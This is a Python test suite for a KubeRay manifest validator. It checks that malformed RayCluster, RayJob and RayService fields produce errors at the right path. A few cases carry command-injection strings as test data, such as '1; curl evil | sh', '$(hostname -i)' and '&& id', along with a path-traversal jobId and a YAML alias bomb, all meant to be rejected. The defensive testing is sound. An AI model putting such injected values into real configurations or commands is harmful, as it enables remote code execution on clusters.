"""KubeRay's validation rules, one broken field at a time: each case names the field path the problem
must point at and the words the message must contain."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from raykopf.validation import Gates, Severity, validate
from tests.hostile import ALIAS_BOMB
from tests.unit.validation.manifests import container, raycluster, rayjob, rayservice

Mutation = Callable[[dict[str, Any]], None]


def head(m: dict[str, Any]) -> dict[str, Any]:
    spec = m["spec"].get("rayClusterSpec") or m["spec"].get("rayClusterConfig") or m["spec"]
    result: dict[str, Any] = spec["headGroupSpec"]
    return result


def head_env(m: dict[str, Any], name: str, value: str = "x") -> None:
    head(m)["template"]["spec"]["containers"][0]["env"] = [{"name": name, "value": value}]


def worker(m: dict[str, Any]) -> dict[str, Any]:
    result: dict[str, Any] = m["spec"]["workerGroupSpecs"][0]
    return result


def set_in(m: dict[str, Any], path: str, value: Any) -> None:
    *parents, last = path.split(".")
    node = m
    for key in parents:
        node = node.setdefault(key, {})
    node[last] = value


def both(*mutations: Mutation) -> Mutation:
    def apply(m: dict[str, Any]) -> None:
        for mutation in mutations:
            mutation(m)

    return apply


CLUSTER_CASES: list[tuple[str, Mutation, str, str]] = [
    (
        "name longer than 53",
        lambda m: set_in(m, "metadata.name", "a" * 54),
        "metadata.name",
        "no more than 53",
    ),
    (
        "name not DNS-1035",
        lambda m: set_in(m, "metadata.name", "1abc"),
        "metadata.name",
        "valid DNS1035 label",
    ),
    (
        "generateName too long once suffixed",
        lambda m: m["metadata"].update(name=None, generateName="a" * 50),
        "metadata.name",
        "no more than 53",
    ),
    (
        "head without containers",
        lambda m: head(m)["template"]["spec"].update(containers=[]),
        "spec.headGroupSpec.template.spec.containers",
        "at least one container",
    ),
    (
        "worker without containers",
        lambda m: worker(m)["template"]["spec"].update(containers=[]),
        "spec.workerGroupSpecs[0].template.spec.containers",
        "at least one container",
    ),
    (
        "resources in both places",
        lambda m: head(m).update(rayStartParams={"num-cpus": "1"}, resources={"CPU": "1"}),
        "spec.headGroupSpec.resources",
        "both rayStartParams and Resources for Head group",
    ),
    (
        "labels in rayStartParams",
        lambda m: worker(m).update(rayStartParams={"labels": "a=b"}),
        "spec.workerGroupSpecs[0].rayStartParams.labels",
        "not supported for small group",
    ),
    (
        "the autoscaler's Role bound to the default ServiceAccount",
        lambda m: (
            m["spec"].update(enableInTreeAutoscaling=True),
            head(m)["template"]["spec"].update(serviceAccountName="default"),
        ),
        "spec.headGroupSpec.template.spec.serviceAccountName",
        "bound to the namespace's `default`",
    ),
    (
        "a head Service name the apiserver would refuse",
        lambda m: head(m).update(headService={"metadata": {"name": "x" * 100}}),
        "spec.headGroupSpec.headService.metadata.name",
        "must be no more than 63 characters",
    ),
    (
        "a command in rayStartParams",
        lambda m: head(m).update(rayStartParams={"num-cpus": "1; curl evil | sh"}),
        "spec.headGroupSpec.rayStartParams.num-cpus",
        "must not hold the shell operator ';'",
    ),
    (
        "command substitution in rayStartParams, even in double quotes",
        lambda m: worker(m).update(rayStartParams={"node-ip-address": '"$(hostname -i)"'}),
        "spec.workerGroupSpecs[0].rayStartParams.node-ip-address",
        "must not hold command substitution",
    ),
    (
        "an unclosed quote in rayStartParams",
        lambda m: worker(m).update(rayStartParams={"temp-dir": "'/tmp/ray"}),
        "spec.workerGroupSpecs[0].rayStartParams.temp-dir",
        "must not hold an unclosed quote",
    ),
    (
        "a shell operator in a rayStartParams name",
        lambda m: worker(m).update(rayStartParams={"x=1 && id && y": "1"}),
        "spec.workerGroupSpecs[0].rayStartParams.x=1 && id && y",
        "the name goes into the `ray start` command line",
    ),
    (
        "invalid label key",
        lambda m: worker(m).update(labels={"bad key": "v"}),
        "spec.workerGroupSpecs[0].labels.bad key",
        "invalid label key for small group",
    ),
    (
        "invalid label value",
        lambda m: head(m).update(labels={"zone": "-bad-"}),
        "spec.headGroupSpec.labels.zone",
        "invalid label value for key 'zone' in Head group",
    ),
    (
        "minReplicas above maxReplicas",
        lambda m: worker(m).update(minReplicas=5, maxReplicas=2),
        "spec.workerGroupSpecs[0].minReplicas",
        "minReplicas (5) must not be greater than maxReplicas (2)",
    ),
    (
        "negative replicas",
        lambda m: worker(m).update(replicas=-1),
        "spec.workerGroupSpecs[0].replicas",
        "non-negative",
    ),
    (
        "numOfHosts zero",
        lambda m: worker(m).update(numOfHosts=0),
        "spec.workerGroupSpecs[0].numOfHosts",
        "at least 1",
    ),
    (
        "duplicate group names",
        lambda m: m["spec"]["workerGroupSpecs"].append(dict(worker(m))),
        "spec.workerGroupSpecs",
        "'small' is used 2 times",
    ),
    (
        "ft annotation with ft options",
        both(
            lambda m: set_in(m, "metadata.annotations", {"ray.io/ft-enabled": "true"}),
            lambda m: set_in(m, "spec.gcsFaultToleranceOptions", {"redisAddress": "redis:6379"}),
        ),
        "spec.gcsFaultToleranceOptions",
        "annotation and GcsFaultToleranceOptions are both set",
    ),
    (
        "redis address without FT",
        lambda m: head_env(m, "RAY_REDIS_ADDRESS"),
        "spec.headGroupSpec.template.spec.containers[0].env",
        "implicitly enables GCS fault tolerance",
    ),
    (
        "redis-password param with FT options",
        both(
            lambda m: set_in(m, "spec.gcsFaultToleranceOptions", {"redisAddress": "redis:6379"}),
            lambda m: head(m).update(rayStartParams={"redis-password": "p"}),
        ),
        "spec.headGroupSpec.rayStartParams.redis-password",
        "use GcsFaultToleranceOptions.RedisPassword",
    ),
    (
        "REDIS_PASSWORD env with FT options",
        both(
            lambda m: set_in(m, "spec.gcsFaultToleranceOptions", {"redisAddress": "redis:6379"}),
            lambda m: head_env(m, "REDIS_PASSWORD"),
        ),
        "spec.headGroupSpec.template.spec.containers[0].env",
        "cannot set `REDIS_PASSWORD` env var",
    ),
    (
        "storage namespace annotation with FT options",
        both(
            lambda m: set_in(m, "spec.gcsFaultToleranceOptions", {"redisAddress": "redis:6379"}),
            lambda m: set_in(m, "metadata.annotations", {"ray.io/external-storage-namespace": "ns"}),
        ),
        "metadata.annotations.ray.io/external-storage-namespace",
        "ExternalStorageNamespace instead",
    ),
    (
        "redis username env",
        lambda m: head_env(m, "REDIS_USERNAME"),
        "spec.headGroupSpec",
        "cannot set redis username",
    ),
    (
        "suspended group with autoscaling",
        both(
            lambda m: set_in(m, "spec.enableInTreeAutoscaling", True),
            lambda m: worker(m).update(suspend=True),
        ),
        "spec.workerGroupSpecs[0].suspend",
        "cannot be suspended with Autoscaler enabled",
    ),
    (
        "autoscaler v2 env without autoscaling",
        lambda m: head_env(m, "RAY_enable_autoscaler_v2", "true"),
        "spec.headGroupSpec.template.spec.containers[0].env",
        "when enableInTreeAutoscaling is false",
    ),
    (
        "autoscaler version and env both",
        both(
            lambda m: set_in(m, "spec.enableInTreeAutoscaling", True),
            lambda m: set_in(m, "spec.autoscalerOptions", {"version": "v2"}),
            lambda m: head_env(m, "RAY_enable_autoscaler_v2", "1"),
        ),
        "spec.autoscalerOptions.version",
        "please only use the former",
    ),
    (
        "autoscaler v2 with restartPolicy Always on the head",
        both(
            lambda m: set_in(m, "spec.enableInTreeAutoscaling", True),
            lambda m: set_in(m, "spec.autoscalerOptions", {"version": "v2"}),
            lambda m: head(m)["template"]["spec"].update(restartPolicy="Always"),
        ),
        "spec.headGroupSpec.template.spec.restartPolicy",
        "Never or unset when using autoscaler V2",
    ),
    (
        "autoscaler v2 with restartPolicy OnFailure on a worker",
        both(
            lambda m: set_in(m, "spec.enableInTreeAutoscaling", True),
            lambda m: set_in(m, "spec.autoscalerOptions", {"version": "v2"}),
            lambda m: worker(m)["template"]["spec"].update(restartPolicy="OnFailure"),
        ),
        "spec.workerGroupSpecs[0].template.spec.restartPolicy",
        "worker group small should be Never",
    ),
    (
        "token auth on an old Ray",
        both(
            lambda m: set_in(m, "spec.authOptions", {"mode": "token"}),
            lambda m: set_in(m, "spec.rayVersion", "2.46.0"),
        ),
        "spec.rayVersion",
        "minimum Ray version is 2.52.0, got 2.46.0",
    ),
    (
        "token auth without rayVersion",
        both(
            lambda m: set_in(m, "spec.authOptions", {"mode": "token"}), lambda m: m["spec"].pop("rayVersion")
        ),
        "spec.rayVersion",
        "RayVersion was not specified",
    ),
    (
        "unknown managedBy",
        lambda m: set_in(m, "spec.managedBy", "someone-else"),
        "spec.managedBy",
        "must be either 'ray.io/kuberay-operator' or 'kueue.x-k8s.io/multikueue'",
    ),
    (
        "suspended status conditions both true",
        lambda m: set_in(
            m,
            "status",
            {
                "conditions": [
                    {
                        "type": t,
                        "status": "True",
                        "reason": "r",
                        "message": "",
                        "lastTransitionTime": "2026-01-01T00:00:00Z",
                    }
                    for t in ("RayClusterSuspending", "RayClusterSuspended")
                ]
            },
        ),
        "status.conditions",
        "should not be both true",
    ),
]

JOB_CASES: list[tuple[str, Mutation, str, str]] = [
    (
        "name longer than 47",
        lambda m: set_in(m, "metadata.name", "j" * 48),
        "metadata.name",
        "no more than 47",
    ),
    (
        "unknown submission mode",
        lambda m: set_in(m, "spec.submissionMode", "K8sMode"),
        "spec.submissionMode",
        "must be one of ['K8sJobMode', 'HTTPMode', 'SidecarMode', 'InteractiveMode']",
    ),
    (
        "suspend without shutdown",
        lambda m: set_in(m, "spec.suspend", True),
        "spec.suspend",
        "shutdownAfterJobFinishes set to false is not allowed to be suspended",
    ),
    (
        "ttl without shutdown",
        lambda m: set_in(m, "spec.ttlSecondsAfterFinished", 10),
        "spec.ttlSecondsAfterFinished",
        "cannot have TTLSecondsAfterFinished",
    ),
    (
        "negative ttl",
        both(
            lambda m: set_in(m, "spec.shutdownAfterJobFinishes", True),
            lambda m: set_in(m, "spec.ttlSecondsAfterFinished", -1),
        ),
        "spec.ttlSecondsAfterFinished",
        "non-negative",
    ),
    (
        "neither cluster spec nor selector",
        lambda m: m["spec"].pop("rayClusterSpec"),
        "spec.rayClusterSpec",
        "one of RayClusterSpec or ClusterSelector must be set",
    ),
    (
        "selector with suspend",
        both(
            lambda m: set_in(m, "spec.clusterSelector", {"ray.io/cluster": "c"}),
            lambda m: set_in(m, "spec.shutdownAfterJobFinishes", True),
            lambda m: set_in(m, "spec.suspend", True),
        ),
        "spec.clusterSelector",
        "doesn't support the suspend operation",
    ),
    (
        "selector without a cluster name",
        lambda m: set_in(m, "spec.clusterSelector", {"team": "a"}),
        "spec.clusterSelector.ray.io/cluster",
        "should not be empty",
    ),
    (
        "selector in SidecarMode",
        both(
            lambda m: set_in(m, "spec.clusterSelector", {"ray.io/cluster": "c"}),
            lambda m: set_in(m, "spec.submissionMode", "SidecarMode"),
        ),
        "spec.clusterSelector",
        "not supported in SidecarMode",
    ),
    (
        "backoffLimit in InteractiveMode",
        both(
            lambda m: set_in(m, "spec.submissionMode", "InteractiveMode"),
            lambda m: set_in(m, "spec.backoffLimit", 1),
        ),
        "spec.backoffLimit",
        "incompatible with InteractiveMode",
    ),
    (
        "SidecarMode with submitter template",
        both(
            lambda m: set_in(m, "spec.submissionMode", "SidecarMode"),
            lambda m: set_in(m, "spec.submitterPodTemplate", {"spec": {"containers": [container()]}}),
        ),
        "spec.submitterPodTemplate",
        "SidecarMode doesn't support SubmitterPodTemplate",
    ),
    (
        "submitter template without containers",
        lambda m: set_in(m, "spec.submitterPodTemplate", {"spec": {"containers": []}}),
        "spec.submitterPodTemplate.spec.containers",
        "should have at least one container",
    ),
    (
        "submitter template without a pod spec",
        lambda m: set_in(m, "spec.submitterPodTemplate", {"metadata": {"labels": {"a": "b"}}}),
        "spec.submitterPodTemplate.spec.containers",
        "should have at least one container",
    ),
    (
        "SidecarMode with submitter config",
        both(
            lambda m: set_in(m, "spec.submissionMode", "SidecarMode"),
            lambda m: set_in(m, "spec.submitterConfig", {"backoffLimit": 1}),
        ),
        "spec.submitterConfig",
        "SidecarMode doesn't support SubmitterConfig",
    ),
    (
        "SidecarMode with a restarting head",
        both(
            lambda m: set_in(m, "spec.submissionMode", "SidecarMode"),
            lambda m: head(m)["template"]["spec"].update(restartPolicy="Always"),
        ),
        "spec.rayClusterSpec.headGroupSpec.template.spec.restartPolicy",
        "Never or unset when using SidecarMode",
    ),
    (
        "runtimeEnvYAML not YAML",
        lambda m: set_in(m, "spec.runtimeEnvYAML", "pip: [a\n  b: {"),
        "spec.runtimeEnvYAML",
        "runtimeEnvYAML cannot be read: ",
    ),
    (
        "jobId a path",
        lambda m: set_in(m, "spec.jobId", "../../api/v1/secrets"),
        "spec.jobId",
        "expected up to 253 letters, digits, '_', '.', ':' or '-'",
    ),
    (
        "jobId a shell word",
        lambda m: set_in(m, "spec.jobId", "x; curl evil"),
        "spec.jobId",
        "it goes into the dashboard's URL and the submitter's command line",
    ),
    (
        "runtimeEnvYAML an alias bomb",
        lambda m: set_in(m, "spec.runtimeEnvYAML", ALIAS_BOMB),
        "spec.runtimeEnvYAML",
        "runtimeEnvYAML cannot be read: document contains excessive aliasing",
    ),
    (
        "runtimeEnvYAML with NaN",
        lambda m: set_in(m, "spec.runtimeEnvYAML", "env_vars: {A: .nan}"),
        "spec.runtimeEnvYAML",
        "JSON has no NaN or infinity",
    ),
    (
        "runtimeEnvYAML a list",
        lambda m: set_in(m, "spec.runtimeEnvYAML", "- a\n- b\n"),
        "spec.runtimeEnvYAML",
        "must be a YAML mapping",
    ),
    (
        "entrypointResources not JSON",
        lambda m: set_in(m, "spec.entrypointResources", "{custom: 1}"),
        "spec.entrypointResources",
        "must be a JSON object",
    ),
    (
        "zero activeDeadlineSeconds",
        lambda m: set_in(m, "spec.activeDeadlineSeconds", 0),
        "spec.activeDeadlineSeconds",
        "must be a positive integer",
    ),
    (
        "negative backoffLimit",
        lambda m: set_in(m, "spec.backoffLimit", -1),
        "spec.backoffLimit",
        "positive integer",
    ),
    (
        "cluster rule inside the job",
        lambda m: worker_of_job(m).update(minReplicas=4, maxReplicas=1),
        "spec.rayClusterSpec.workerGroupSpecs[0].minReplicas",
        "must not be greater than maxReplicas",
    ),
    (
        "upgradeStrategy on the job's cluster",
        lambda m: set_in(m, "spec.rayClusterSpec.upgradeStrategy", {"type": "Recreate"}),
        "spec.rayClusterSpec.upgradeStrategy",
        "only allowed on RayClusters created directly",
    ),
    (
        "rules with shutdownAfterJobFinishes",
        both(
            lambda m: set_in(m, "spec.shutdownAfterJobFinishes", True),
            lambda m: set_in(
                m,
                "spec.deletionStrategy",
                {"deletionRules": [{"policy": "DeleteCluster", "condition": {"jobStatus": "SUCCEEDED"}}]},
            ),
        ),
        "spec.deletionStrategy",
        "mutually exclusive",
    ),
    (
        "rules and legacy together",
        lambda m: set_in(
            m,
            "spec.deletionStrategy",
            {
                "onSuccess": {"policy": "DeleteCluster"},
                "onFailure": {"policy": "DeleteNone"},
                "deletionRules": [{"policy": "DeleteCluster", "condition": {"jobStatus": "SUCCEEDED"}}],
            },
        ),
        "spec.deletionStrategy",
        # The CEL rule's message in KubeRay v1.7's CRD: the apiserver refuses this before KubeRay runs.
        "legacy policies (onSuccess/onFailure) and deletionRules cannot be used together within the same "
        "deletionStrategy",
    ),
    (
        "legacy with only onSuccess",
        lambda m: set_in(m, "spec.deletionStrategy", {"onSuccess": {"policy": "DeleteCluster"}}),
        "spec.deletionStrategy",
        "deletionStrategy requires either BOTH onSuccess and onFailure, OR the deletionRules field (cannot be empty)",
    ),
    (
        "empty deletion strategy",
        lambda m: set_in(m, "spec.deletionStrategy", {}),
        "spec.deletionStrategy",
        "requires either BOTH onSuccess and onFailure, OR the deletionRules",
    ),
    (
        "condition with both statuses",
        lambda m: set_in(
            m,
            "spec.deletionStrategy",
            {
                "deletionRules": [
                    {
                        "policy": "DeleteSelf",
                        "condition": {"jobStatus": "FAILED", "jobDeploymentStatus": "Failed"},
                    }
                ]
            },
        ),
        "spec.deletionStrategy.deletionRules[0].condition",
        "JobStatus and JobDeploymentStatus cannot be used together within the same deletion condition.",
    ),
    (
        "condition with no status",
        lambda m: set_in(
            m,
            "spec.deletionStrategy",
            {"deletionRules": [{"policy": "DeleteSelf", "condition": {"ttlSeconds": 5}}]},
        ),
        "spec.deletionStrategy.deletionRules[0].condition",
        "the deletion condition requires either the JobStatus or the JobDeploymentStatus field.",
    ),
    (
        "duplicate rule",
        lambda m: set_in(
            m,
            "spec.deletionStrategy",
            {
                "deletionRules": [
                    {"policy": "DeleteSelf", "condition": {"jobStatus": "FAILED"}},
                    {"policy": "DeleteSelf", "condition": {"jobStatus": "FAILED", "ttlSeconds": 5}},
                ]
            },
        ),
        "spec.deletionStrategy.deletionRules[1]",
        "duplicate rule for DeletionPolicyType 'DeleteSelf'",
    ),
    (
        "TTLs out of order",
        lambda m: set_in(
            m,
            "spec.deletionStrategy",
            {
                "deletionRules": [
                    {"policy": "DeleteCluster", "condition": {"jobStatus": "SUCCEEDED", "ttlSeconds": 60}},
                    {"policy": "DeleteSelf", "condition": {"jobStatus": "SUCCEEDED", "ttlSeconds": 10}},
                ]
            },
        ),
        "spec.deletionStrategy.deletionRules",
        "DeleteSelf TTL (10) must be >= DeleteCluster TTL (60)",
    ),
    (
        "DeleteWorkers with autoscaling",
        both(
            lambda m: set_in(m, "spec.rayClusterSpec.enableInTreeAutoscaling", True),
            lambda m: set_in(
                m,
                "spec.deletionStrategy",
                {"deletionRules": [{"policy": "DeleteWorkers", "condition": {"jobStatus": "SUCCEEDED"}}]},
            ),
        ),
        "spec.deletionStrategy.deletionRules[0].policy",
        "'DeleteWorkers' not supported with autoscaling enabled",
    ),
    (
        "legacy DeleteCluster with a selector",
        both(
            lambda m: set_in(m, "spec.clusterSelector", {"ray.io/cluster": "c"}),
            lambda m: set_in(
                m,
                "spec.deletionStrategy",
                {"onSuccess": {"policy": "DeleteCluster"}, "onFailure": {"policy": "DeleteNone"}},
            ),
        ),
        "spec.deletionStrategy.onSuccess.policy",
        "ClusterSelector mode doesn't support DeletionStrategy=DeleteCluster on success",
    ),
    (
        "Waiting status outside InteractiveMode",
        lambda m: set_in(m, "status", {"jobDeploymentStatus": "Waiting"}),
        "status.jobDeploymentStatus",
        "cannot be `Waiting`",
    ),
]

SERVICE_CASES: list[tuple[str, Mutation, str, str]] = [
    (
        "name longer than 47",
        lambda m: set_in(m, "metadata.name", "s" * 48),
        "metadata.name",
        "no more than 47",
    ),
    (
        "bad initializing timeout",
        lambda m: set_in(m, "metadata.annotations", {"ray.io/initializing-timeout": "soon"}),
        "metadata.annotations.ray.io/initializing-timeout",
        "positive Go duration",
    ),
    (
        "negative initializing timeout",
        lambda m: set_in(m, "metadata.annotations", {"ray.io/initializing-timeout": "-5m"}),
        "metadata.annotations.ray.io/initializing-timeout",
        "positive Go duration",
    ),
    (
        "named head service",
        lambda m: head(m).update(headService={"metadata": {"name": "mine"}}),
        "spec.rayClusterConfig.headGroupSpec.headService.metadata.name",
        "should not be set",
    ),
    (
        "unknown upgrade type",
        lambda m: set_in(m, "spec.upgradeStrategy", {"type": "BlueGreen"}),
        "spec.upgradeStrategy.type",
        "value BlueGreen is invalid",
    ),
    (
        "negative deletion delay",
        lambda m: set_in(m, "spec.rayClusterDeletionDelaySeconds", -1),
        "spec.rayClusterDeletionDelaySeconds",
        "must be greater than or equal to 0, got -1",
    ),
    (
        "incremental upgrade without autoscaling",
        lambda m: set_in(m, "spec.upgradeStrategy", {"type": "NewClusterWithIncrementalUpgrade"}),
        "spec.rayClusterConfig.enableInTreeAutoscaling",
        "Ray Autoscaler is required",
    ),
    (
        "incremental upgrade without options",
        both(
            lambda m: set_in(m, "spec.rayClusterConfig.enableInTreeAutoscaling", True),
            lambda m: set_in(m, "spec.upgradeStrategy", {"type": "NewClusterWithIncrementalUpgrade"}),
        ),
        "spec.upgradeStrategy.clusterUpgradeOptions",
        "ClusterUpgradeOptions are required",
    ),
    (
        "incremental upgrade with a bad step",
        both(
            lambda m: set_in(m, "spec.rayClusterConfig.enableInTreeAutoscaling", True),
            lambda m: set_in(
                m,
                "spec.upgradeStrategy",
                {
                    "type": "NewClusterWithIncrementalUpgrade",
                    "clusterUpgradeOptions": {
                        "stepSizePercent": 150,
                        "intervalSeconds": 10,
                        "gatewayClassName": "istio",
                    },
                },
            ),
        ),
        "spec.upgradeStrategy.clusterUpgradeOptions.stepSizePercent",
        "between 0 and 100",
    ),
    (
        "serve config an alias bomb",
        lambda m: set_in(m, "spec.serveConfigV2", ALIAS_BOMB),
        "spec.serveConfigV2",
        "serveConfigV2 cannot be read: document contains excessive aliasing",
    ),
    (
        "serve config not YAML",
        lambda m: set_in(m, "spec.serveConfigV2", "applications: [\n"),
        "spec.serveConfigV2",
        "serveConfigV2 cannot be read: ",
    ),
    (
        "cluster rule inside the service",
        lambda m: head(m).update(rayStartParams={"labels": "x"}),
        "spec.rayClusterConfig.headGroupSpec.rayStartParams.labels",
        "not supported for Head group",
    ),
]


def worker_of_job(m: dict[str, Any]) -> dict[str, Any]:
    result: dict[str, Any] = m["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]
    return result


RULE_CASES = [
    pytest.param(base, mutation, path, words, id=f"{base.__name__}: {name}")
    for base, cases in ((raycluster, CLUSTER_CASES), (rayjob, JOB_CASES), (rayservice, SERVICE_CASES))
    for name, mutation, path, words in cases
]


@pytest.mark.parametrize("base", [raycluster, rayjob, rayservice], ids=["RayCluster", "RayJob", "RayService"])
def test_the_base_manifests_are_valid(base: Callable[[], dict[str, Any]]) -> None:
    assert validate(base()) == []


@pytest.mark.parametrize(("base", "mutation", "path", "words"), RULE_CASES)
def test_rule_reports_an_error_at_the_field(
    base: Callable[[], dict[str, Any]], mutation: Mutation, path: str, words: str
) -> None:
    manifest = base()
    mutation(manifest)
    problems = validate(manifest)
    matching = [p for p in problems if p.path == path and words in p.message and p.severity is Severity.ERROR]
    assert matching, f"expected an error at {path!r} containing {words!r}, got {[str(p) for p in problems]}"


def test_every_problem_is_reported_not_only_the_first() -> None:
    manifest = raycluster()
    manifest["metadata"]["name"] = "Bad"
    worker(manifest).update(minReplicas=3, maxReplicas=1, rayStartParams={"labels": "x"})
    paths = {p.path for p in validate(manifest)}
    assert {
        "metadata.name",
        "spec.workerGroupSpecs[0].minReplicas",
        "spec.workerGroupSpecs[0].rayStartParams.labels",
    } <= paths


def test_deletion_strategy_needs_its_feature_gate() -> None:
    manifest = rayjob()
    manifest["spec"]["deletionStrategy"] = {
        "deletionRules": [{"policy": "DeleteSelf", "condition": {"jobStatus": "FAILED"}}]
    }
    assert validate(manifest) == []
    problems = validate(manifest, Gates(ray_job_deletion_policy=False))
    assert [p.message for p in problems] == [
        "RayJobDeletionPolicy feature gate must be enabled to use DeletionStrategy"
    ]


def test_valid_go_durations_and_seconds_are_accepted_for_the_initializing_timeout() -> None:
    for value in ("30m", "1h30m", "90s", "600"):
        manifest = rayservice()
        manifest["metadata"]["annotations"] = {"ray.io/initializing-timeout": value}
        assert validate(manifest) == [], value


def test_kinds_and_versions_other_than_ray_io_are_rejected() -> None:
    assert [str(p) for p in validate({"apiVersion": "v1", "kind": "Pod"})] == [
        "kind: expected one of ['RayCluster', 'RayJob', 'RayService'], got 'Pod'"
    ]
    manifest = raycluster()
    manifest["apiVersion"] = "ray.io/v2"
    assert [p.path for p in validate(manifest)] == ["apiVersion"]
    manifest["apiVersion"] = "ray.io/v1alpha1"
    assert validate(manifest) == []
    assert [p.path for p in validate(["not", "a", "mapping"])] == [""]


@pytest.mark.parametrize("job_id", ["raysubmit_WpNpuXwcpxCXaDNF", "my-job-x7k2q", "team.a:run_1"])
def test_job_ids_of_ray_kuberay_and_users_are_valid(job_id: str) -> None:
    manifest = rayjob()
    set_in(manifest, "spec.jobId", job_id)
    assert not [p for p in validate(manifest) if p.path == "spec.jobId"]


@pytest.mark.parametrize(
    "value",
    ["$MY_POD_IP", "${RAY_PORT:-6379}", '"{\\"Custom\\": 1}"', "'{\"a\": 1}'", "'$(literal)'", "1 --block"],
)
def test_ray_start_params_that_are_words_pass(value: str) -> None:
    """Environment variables, quoted JSON (KubeRay's documented `resources` form), single-quoted text."""
    manifest = raycluster()
    head(manifest).update(rayStartParams={"x": value})
    assert not [p for p in validate(manifest) if p.path.startswith("spec.headGroupSpec.rayStartParams")]


def test_a_cluster_asking_for_more_pods_than_the_operator_allows_is_refused_at_the_group() -> None:
    huge = raycluster()
    worker(huge).update(replicas=2**31 - 1, minReplicas=0)
    worker(huge).pop("maxReplicas", None)
    assert [(p.path, "more than 10000 Pods" in p.message) for p in validate(huge) if p.is_error] == [
        ("spec.workerGroupSpecs[0]", True)
    ]
    hosts = raycluster()
    worker(hosts).update(replicas=1, minReplicas=0, maxReplicas=1, numOfHosts=100_000)
    assert any(p.path == "spec.workerGroupSpecs[0]" for p in validate(hosts))
    small = raycluster()
    worker(small).update(replicas=2, minReplicas=0, maxReplicas=10, numOfHosts=2)  # 1 head + 4 workers
    assert not [p for p in validate(small, Gates(max_pods_per_cluster=5)) if "Pods" in p.message]
    worker(small).update(replicas=3)  # 1 + 6
    (problem,) = [p for p in validate(small, Gates(max_pods_per_cluster=5)) if "Pods" in p.message]
    assert "--max-pods-per-cluster" in problem.message
    job = rayjob()
    job["spec"]["rayClusterSpec"]["workerGroupSpecs"] = [
        {**worker(raycluster()), "replicas": 2**31 - 1, "maxReplicas": 2**31 - 1}
    ]
    assert any(p.path == "spec.rayClusterSpec.workerGroupSpecs[0]" for p in validate(job))
